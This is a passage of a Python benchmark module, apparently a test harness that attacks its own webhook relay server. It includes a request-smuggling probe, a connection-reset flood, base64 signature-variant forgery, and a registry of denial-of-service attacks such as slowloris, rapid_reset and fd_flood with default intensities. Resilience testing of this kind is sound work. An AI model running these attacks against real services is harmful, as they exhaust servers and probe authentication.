            "content-type: application/json\r\n"
            f"Content-Length: {len(chunked) + len(second)}\r\n"
            "Transfer-Encoding: chunked\r\n\r\n"
        ).encode()
        try:
            reader, writer = await open_tcp(target, source, tls=target.tls())
        except (OSError, ssl.SSLError, TimeoutError):
            result.refused += 1
            continue
        result.opened += 1
        result.notes["probes"] += 1
        opened_at = time.monotonic()
        writer.write(head + chunked + second)
        result.requests += 2
        answers = 0
        closed = False
        try:
            for _ in range(2):
                response = await read_response(reader, within=3)
                result.statuses[response.status] += 1
                answers += 1
            # Both answered: does the server close now (EOF), or keep the connection?
            async with asyncio.timeout(1):
                closed = await reader.read(1) == b""
        except (TimeoutError, ValueError):
            closed = reader.at_eof()
        except (OSError, ssl.SSLError, asyncio.IncompleteReadError):
            closed = True
        if answers == 2:
            result.notes["second_answered"] += 1
        if closed:
            result.notes["connection_closed"] += 1
            result.closed_by_server += 1
            result.close_after.append(time.monotonic() - opened_at)
        await _close(writer)
    result.seconds = time.monotonic() - started
    return result


async def abandon(
    target: Target,
    source: str,
    duration: float = 20.0,
    intensity: int = 100,
    *,
    tenant: str = "x",
) -> AttackResult:
    """Up to ``intensity`` connections a second that each send one request, read the
    answer's head and vanish with a TCP reset instead of closing: what a phone on a
    flaky network does. The server must forget each connection as it goes.
    """
    result = AttackResult("abandon", source)
    started = time.monotonic()
    deadline = _deadline(duration)
    request = request_bytes("POST", f"/webhook/{tenant}", target.authority, {}, b"{}")
    limit = asyncio.Semaphore(16)

    async def one() -> None:
        async with limit:
            try:
                reader, writer = await open_tcp(target, source, tls=target.tls(), within=5)
            except (OSError, TimeoutError):
                result.refused += 1
                return
            result.opened += 1
            try:
                writer.write(request)
                result.requests += 1
                async with asyncio.timeout(5):
                    head = await reader.readuntil(b"\r\n\r\n")
                result.statuses[int(head.split(b" ", 2)[1])] += 1
            except (OSError, TimeoutError, ValueError, asyncio.IncompleteReadError):
                pass
            writer.transport.abort()

    tasks: set[asyncio.Task[None]] = set()
    sent = 0
    while time.monotonic() < deadline:
        due = int((time.monotonic() - started) * intensity) - sent
        for _ in range(max(0, due)):
            task = asyncio.create_task(one())
            tasks.add(task)
            task.add_done_callback(tasks.discard)
        sent += max(0, due)
        await asyncio.sleep(0.01)
    if tasks:
        await asyncio.wait(tasks, timeout=10)
    result.seconds = time.monotonic() - started
    return result


def signature_spellings(signature: str) -> list[str]:
    """The four base64 spellings of a SHA-256 signature that decode to the same digest.

    32 bytes take 43 base64 characters and a ``=``; the 43rd character holds 4
    bits of the digest and 2 unused ones, which a lenient decoder ignores.
    """
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
    assert len(signature) == 44
    assert signature.endswith("=")
    value = alphabet.index(signature[42])
    return [signature[:42] + alphabet[(value & ~3) | low] + "=" for low in range(4)]


async def signature_variants(
    target: Target,
    source: str,
    duration: float = 10.0,
    intensity: int = 5,
    *,
    tenant: str,
    secret: str,
    token: str | None = None,
) -> AttackResult:
    """``intensity`` bodies, each posted four times with the four spellings of its one
    valid signature. ``notes["accepted"]`` counts 200s; with ``token``, a bridge of the
    tenant counts how many times each body was queued (``notes["queued"]``; one per
    body is right: the other spellings are retries of it)."""
    result = AttackResult("signature_variants", source)
    started = time.monotonic()
    bodies = [large_body(600) for _ in range(intensity)]
    posts = [b for b in bodies for _ in range(4)]
    spellings = [s for b in bodies for s in signature_spellings(sign(secret.encode(), b))]
    statuses = await post_signed(
        target, source, tenant, secret, posts, result, signatures=spellings
    )
    result.notes["accepted"] = statuses.count(200)
    result.notes["bodies"] = len(bodies)
    if token is not None:
        wanted = {b.decode() for b in bodies}
        deliveries: Counter[str] = Counter()
        deadline = time.monotonic() + max(2.0, min(duration, MAX_DURATION))
        async with ws_connect(
            target.bridge_url,
            ssl=target.tls(),
            additional_headers={"Authorization": f"Bearer {token}"},
            local_addr=(source, 0),
            max_size=None,
        ) as ws:
            result.opened += 1
            with contextlib.suppress(TimeoutError):
                async with asyncio.timeout(max(0.0, deadline - time.monotonic())):
                    while True:
                        frame = json.loads(await ws.recv())
                        if frame.get("type") == "webhook":
                            await ws.send(json.dumps({"type": "ack", "id": frame["id"]}))
                            if frame["body"] in wanted:
                                deliveries[frame["id"]] += 1
                                # The same id again is a redelivery, not a second queue entry.
                                if len(deliveries) >= len(posts):
                                    break
        result.notes["queued"] = len(deliveries)
    result.seconds = time.monotonic() - started
    return result


#: Every attack by name, and the intensity it runs at unless told otherwise.
ATTACKS: dict[str, Callable[..., Awaitable[AttackResult]]] = {
    "slowloris": slowloris,
    "idle": idle,
    "zero_window": zero_window,
    "rapid_reset": rapid_reset,
    "token_guessing": token_guessing,
    "never_reading_bridge": never_reading_bridge,
    "reconnecting_bridge": reconnecting_bridge,
    "fd_flood": fd_flood,
    "abandon": abandon,
    "smuggle": smuggle,
    "signature_variants": signature_variants,
}
DEFAULT_INTENSITY = {
    "slowloris": 500,
    "idle": 500,
    "zero_window": 1100,
    "rapid_reset": 10_000,
    "token_guessing": 1000,
    "never_reading_bridge": 10,
    "reconnecting_bridge": 3,
    "fd_flood": 1500,
    "abandon": 100,
    "smuggle": 3,
    "signature_variants": 5,
}
#: What each attack needs besides the target (the harness gives it a tenant of its own).
NEEDS: dict[str, tuple[str, ...]] = {
    "slowloris": ("tenant",),
    "idle": (),
    "zero_window": ("tenant",),
    "rapid_reset": ("tenant",),
    "token_guessing": (),
    "never_reading_bridge": ("tenant", "token", "secret"),
    "reconnecting_bridge": ("tenant", "token", "secret"),
    "fd_flood": (),
    "abandon": (),
    "smuggle": ("tenant", "secret"),
    "signature_variants": ("tenant", "secret", "token"),
}


async def run(name: str, params: dict[str, Any]) -> AttackResult:
    """Run attack ``name`` from every source in ``params["sources"]``, intensity split."""
    target = Target(params["host"], int(params["port"]), params["ca_file"])
    sources: list[str] = params.get("sources") or ["127.0.0.2"]
    intensity = int(params.get("intensity") or DEFAULT_INTENSITY[name])
    extra = {k: params[k] for k in NEEDS[name] if params.get(k) is not None}
    extra.update(params.get("options") or {})
    per_source = max(1, intensity // len(sources))
    results = await asyncio.gather(
        *(
            ATTACKS[name](target, source, float(params.get("duration", 20.0)), per_source, **extra)
            for source in sources
        )
    )
    merged = results[0]
    for other in results[1:]:
        merged.merge(other)
    return merged


def main() -> None:
    """``python -m bench.attacks NAME`` with the parameters as JSON on stdin."""
    if len(sys.argv) != 2 or sys.argv[1] not in ATTACKS:
        sys.exit(f"usage: python -m bench.attacks {{{','.join(ATTACKS)}}} < params.json")
    # An attacker holds many sockets: lift our own soft limit to the hard one.
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    params = json.load(sys.stdin)
    result = asyncio.run(run(sys.argv[1], params))
    print(json.dumps(result.summary()), flush=True)


if __name__ == "__main__":
    main()
